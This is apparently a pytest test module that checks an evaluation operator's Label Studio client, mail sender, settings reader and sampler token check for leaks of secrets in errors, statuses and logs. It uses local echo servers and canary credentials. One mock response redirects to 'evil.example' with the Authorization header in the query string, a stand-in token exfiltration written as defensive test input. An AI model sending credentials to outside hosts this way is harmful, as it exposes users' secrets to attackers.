"""No part of a secret is in anything that the labeler and the sampler tell.

Servers here repeat what they are sent in each way that they can: in an error's body, as Label
Studio's own validation errors, in a header, in the text of an SMTP answer, in base64. Statuses,
exceptions with all that hangs on them, and log lines at DEBUG are searched for six characters in a
row of any secret. A 400 that repeated the request once put a token into a Dataset's status.
"""

from __future__ import annotations

import asyncio
import base64
import json
import logging
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from urllib.parse import quote

import pytest
from pydantic import BaseModel

from evaluation_operator.domain.reasons import Reason
from evaluation_operator.environment import SettingsError
from evaluation_operator.labeling import mail
from evaluation_operator.labeling.backend import BackendError
from evaluation_operator.labeling.backends.label_studio import LabelStudio
from evaluation_operator.labeling.backends.label_studio.client import Client, parsed
from evaluation_operator.labeling.backends.manual import Manual
from evaluation_operator.labeling.progress import TurnResult, shown_to_all, status_with
from evaluation_operator.labeling.settings import Smtp, read_backends
from evaluation_operator.results.folder import Folder
from evaluation_operator.sampling.intake.auth import Tokens
from evaluation_operator.storage.options import TableOptions
from tests.canary import Canaries
from tests.unit.labeling.desk import CUT_TIME, Bench
from tests.unit.labeling.test_manual import make_spec

LEGACY = "9c31d7f0Kq4vTz8wLp2x"
PERSONAL = "eyQ5w8Zt1.kT7mXv3bR9nJc2.hF6dSg4yUe8"
ACCESS = "eyB3n6Ka8.wE1rTy5uIo9pLk.zX7cVb2nMq4"
PASSWORD = 'mR7/tB+2kW"9x&Hq\\é5'
SAMPLER = "s4mP-1eR8vC3nZ6qJ0yT5d"


@pytest.fixture
def canaries() -> Canaries:
    return Canaries(
        {
            "legacy token": LEGACY,
            "personal token": PERSONAL,
            "access": ACCESS,
            "password": PASSWORD,
            "sampler's token": SAMPLER,
        }
    )


@dataclass(frozen=True)
class Request:
    """What a server may repeat."""

    head: bytes
    body: bytes

    @property
    def authorization(self) -> str:
        lines = self.head.decode().split("\r\n")
        found = [it for it in lines if it.lower().startswith("authorization:")]
        return found[0] if found else ""

    @property
    def all(self) -> str:
        return f"{self.head.decode()}{self.body.decode()}"


def answer(status: int, body: str = "", **headers: str) -> bytes:
    content = body.encode()
    told = {"content-length": str(len(content)), **headers}
    lines = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in told.items())
    return f"HTTP/1.1 {status} X\r\n{lines}\r\n".encode() + content


def own_error(status: int, told: object) -> bytes:
    """As Label Studio describes its errors."""
    content = {"status_code": status, "detail": "no", "validation_errors": told}
    return answer(status, json.dumps(content))


def in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


ERRORS: dict[str, Callable[[Request], bytes]] = {
    "401": lambda it: answer(401, '{"status_code": 401, "detail": "Invalid token."}'),
    "401 that repeats": lambda it: own_error(401, [it.all]),
    "403 by a page": lambda it: answer(403, f"<html>{it.all}</html>"),
    "404 that repeats": lambda it: own_error(404, [it.all]),
    "400 that repeats": lambda it: own_error(400, {"x": [it.authorization + it.body.decode()]}),
    "400 in base64": lambda it: own_error(400, in_base64(it.authorization + it.body.decode())),
    "400 percent-encoded": lambda it: own_error(400, quote(it.all, safe="")),
    "400 in capitals": lambda it: own_error(400, it.all.upper()),
    "400 with a part": lambda it: own_error(400, [it.authorization[-9:], it.body.decode()[13:25]]),
    "400 as a list": lambda it: own_error(400, [[it.all], {it.authorization: it.all}]),
    "422": lambda it: own_error(422, it.all),
    "429": lambda it: answer(429, it.all, retry_after=it.authorization or "x"),
    "500 with a trace": lambda it: answer(500, f"trace {it.all}"),
    "302": lambda it: answer(302, location=f"http://evil.example/?{it.authorization}"),
    "200 by a page": lambda it: answer(200, f"<html>{it.all}"),
    "200 of another kind": lambda it: answer(200, json.dumps({"results": it.all, "next": it.all})),
    "a header of no kind": lambda it: (
        b"HTTP/1.1 200 OK\r\n" + it.authorization.encode() + b"\0\r\n\r\n"
    ),
    "no HTTP": lambda it: b"\0\1 " + it.authorization.encode() + b"\r\n\r\n",
    "cut off": lambda it: b"HTTP/1.1 200 OK\r\ncontent-length: 999\r\n\r\n" + it.body,
    "nothing": lambda it: b"",
}


@asynccontextmanager
async def serving(
    error: Callable[[Request], bytes], *, trades: bool = False, access: str = ACCESS
) -> AsyncIterator[str]:
    """A server's address. `trades`: only personal tokens are answered well, by `access`."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        lines = [it for it in head.lower().split(b"\r\n") if it.startswith(b"content-length:")]
        body = await reader.readexactly(int(lines[0].split(b":")[1])) if lines else b""
        if trades and b"/api/token/refresh/" in head:
            writer.write(answer(200, json.dumps({"access": access})))
        else:
            writer.write(error(Request(head, body)))
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(talk, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"


def status_of(error: Exception) -> str:
    """What everybody may read who may read the Dataset."""
    told = shown_to_all(TurnResult(Reason.BACKEND_REFUSED, str(error), failures=(str(error),)))
    return json.dumps(status_with({}, told, 1, CUT_TIME), ensure_ascii=False)


class _Something(BaseModel):
    there: int


async def refused(url: str, token: str, canaries: Canaries, where: str) -> None:
    backend = LabelStudio(url, lambda: token, timeout_seconds=5)
    client = Client(url, lambda: token, timeout_seconds=5)
    try:
        with pytest.raises(BackendError) as caught:
            await backend.list_projects()
        errors: list[BackendError] = [caught.value]
        try:
            parsed(_Something, await client.ask("POST", "/api/x", body={"a": token}))
        except BackendError as error:
            errors.append(error)
        for found in errors:
            canaries.note(where, found)
            canaries.note(where, status_of(found))
            logging.getLogger("evaluation_operator.labeling").warning("%s: %s", where, found)
    finally:
        await backend.aclose()
        await client.aclose()


@pytest.mark.parametrize("token", [LEGACY, PERSONAL], ids=["legacy", "personal"])
@pytest.mark.parametrize("where", ERRORS)
async def test_no_answer_of_label_studio_tells_a_token(
    where: str, token: str, canaries: Canaries
) -> None:
    """With a personal token it is the request for access that is answered so."""
    with canaries.listening():
        async with serving(ERRORS[where]) as url:
            await refused(url, token, canaries, where)
    assert len(canaries.texts) >= 6
    assert canaries.found() == []


@pytest.mark.parametrize("where", ERRORS)
async def test_no_answer_of_label_studio_tells_the_access_that_a_token_was_traded_for(
    where: str, canaries: Canaries
) -> None:
    with canaries.listening():
        async with serving(ERRORS[where], trades=True) as url:
            await refused(url, PERSONAL, canaries, where)
    assert canaries.found() == []


@pytest.mark.parametrize("ending", ["\nX: y", " x", "é", "\0", "\x7f"])
async def test_a_token_that_is_none_is_neither_sent_nor_told(
    ending: str, canaries: Canaries
) -> None:
    def never(request: Request) -> bytes:
        raise AssertionError("it was sent")

    with canaries.listening():
        async with serving(never) as url:
            await refused(url, LEGACY + ending, canaries, "malformed token")
        async with serving(never, trades=True, access=ACCESS + ending) as url:
            await refused(url, PERSONAL, canaries, "malformed access")
    assert canaries.found() == []


async def test_what_label_studio_says_is_shown_where_it_repeats_nothing(canaries: Canaries) -> None:
    """At three in the morning its own words are what helps."""
    told = {"label_config": ["Error: unknown tag <Chioces> \x1b[2J"]}
    async with serving(lambda it: own_error(400, told)) as url:
        await refused(url, LEGACY, canaries, "400")
    assert "unknown tag <Chioces> \\\\u001b[2J" in canaries.texts[1][1]
    assert "answered 400" in canaries.texts[1][1]


@asynccontextmanager
async def speaking_smtp(refuse: str) -> AsyncIterator[Smtp]:
    """A server that repeats every line once it has been said `refuse`, in its refusal."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"220 here\r\n")
        while line := (await reader.readline()).strip():
            word = line[:4].upper().decode()
            if word == "EHLO":
                writer.write(b"250-here\r\n250 AUTH %s\r\n" % refuse.encode())
            elif word == "MAIL":
                writer.write(b"550 no %s\r\n" % line)
            elif word == "AUTH" and refuse == "LOGIN" and line.count(b" ") == 1:
                writer.write(b"334 VXNlcm5hbWU6\r\n")
            elif refuse == "LOGIN" and line.endswith(b"LOGIN dQ=="):
                writer.write(b"334 UGFzc3dvcmQ6\r\n")
            else:
                writer.write(b"535 no %s %s\r\n" % (line, base64.b64decode(line.split()[-1])))
        writer.close()

    server = await asyncio.start_server(talk, "127.0.0.1", 0)
    async with server:
        port = server.sockets[0].getsockname()[1]
        yield Smtp("127.0.0.1", port, "l@x.example", user="u", is_plain=True)


@pytest.mark.parametrize("way", ["PLAIN", "LOGIN"])
async def test_no_answer_of_a_mail_server_tells_the_password(
    way: str, tmp_path: Path, canaries: Canaries
) -> None:
    file = tmp_path / "password"
    file.write_text(PASSWORD)
    dataset = Bench(tmp_path).dataset
    with canaries.listening():
        async with speaking_smtp(way) as smtp:
            for settings in (
                replace(smtp, password_file=file),
                replace(smtp, password_file=file, is_plain=False),
                replace(smtp, password_file=file, port=1),
                replace(smtp, password_file=tmp_path),
            ):
                problem = await mail.send(settings, dataset, "ann@example.com", "done")
                assert problem is not None
                canaries.note("mail", problem)
        file.write_bytes(b"\xff" + PASSWORD.encode("latin-1"))
        problem = await mail.send(replace(smtp, password_file=file), dataset, "a@b.example", "")
        canaries.note("mail", problem)
    assert "SMTPAuthenticationError 535" in canaries.texts[0][1]
    assert canaries.found() == []


async def test_answers_in_files_tell_no_secret_that_a_mail_or_status_would(
    tmp_path: Path, canaries: Canaries
) -> None:
    """Whoever writes answers.json may write anything there, also what the labeler holds."""
    await refused("http://127.0.0.1:1", LEGACY, Canaries({}), "so that the labeler holds it")
    tool = Manual(Folder.open(f"file://{tmp_path}", TableOptions()))
    project = await tool.open_project(make_spec())
    file = tmp_path / project.ref / "ds" / "answers.json"
    file.parent.mkdir()
    with canaries.listening():
        for number, entry in enumerate((LEGACY, [LEGACY], {"itemId": LEGACY, "labels": [LEGACY]})):
            file.write_text(json.dumps({"answers": [entry]}))
            found = await tool.read_answers(project, "ds")
            bad = [it.message for answers in found.values() for it in answers.bad]
            assert bad
            told = shown_to_all(TurnResult(Reason.LABELING, "", failures=tuple(bad)))
            canaries.note(f"entry {number}", told)
    assert canaries.found() == []


def test_no_setting_that_cannot_be_used_tells_a_secret(tmp_path: Path, canaries: Canaries) -> None:
    file = tmp_path / "backends.yaml"
    for entry in (
        f"{{name: s, type: LabelStudio, url: 'http://u:{LEGACY}@h', tokenFile: /t}}",
        f"{{name: s, type: LabelStudio, url: 'http://u:{LEGACY}/x@h', tokenFile: /t}}",
        f"{{name: s, type: LabelStudio, url: 'ftp://u:{LEGACY}#x@h', tokenFile: /t}}",
        f"{{name: s, type: LabelStudio, url: 'http://h', tokenFile: /t, token: {LEGACY}}}",
        f"{{name: s, type: LabelStudio, url: 'http://h', publicUrl: 'ftp://{LEGACY}@h'}}",
        f"{{name: s, type: LabelStudio, url: ['http://u:{LEGACY}@h'], tokenFile: /t}}",
        f"'{LEGACY}'",
    ):
        file.write_text(f"backends: [{entry}]")
        with pytest.raises(SettingsError) as caught:
            read_backends(file)
        canaries.note(entry, caught.value)
    file.write_text(f"backends: {LEGACY}")
    with pytest.raises(SettingsError) as caught:
        read_backends(file)
    canaries.note("no list", caught.value)
    assert canaries.found() == []


def test_no_way_of_asking_the_sampler_tells_a_token(tmp_path: Path, canaries: Canaries) -> None:
    file = tmp_path / "tokens"
    file.write_text(f"{SAMPLER}\n")
    clock = iter(range(0, 1000, 10))
    with canaries.listening():
        tokens = Tokens(file, lambda: float(next(clock)))
        canaries.note("itself", tokens)
        for sent in (
            f"Basic {in_base64('u:' + SAMPLER)}",
            f"Basic {SAMPLER}",
            f"Bearer {SAMPLER}x",
        ):
            canaries.note("admits", tokens.admits(sent))
        for content in (f"{SAMPLER[:12]}\n", "", f"# {SAMPLER}\n"):
            file.write_text(content)
            assert not tokens.admits(f"Bearer {SAMPLER}")
            canaries.note("problem", tokens.problem)
        file.unlink()
        tokens.admits(f"Bearer {SAMPLER}")
        canaries.note("problem", tokens.problem)
    assert canaries.found() == []
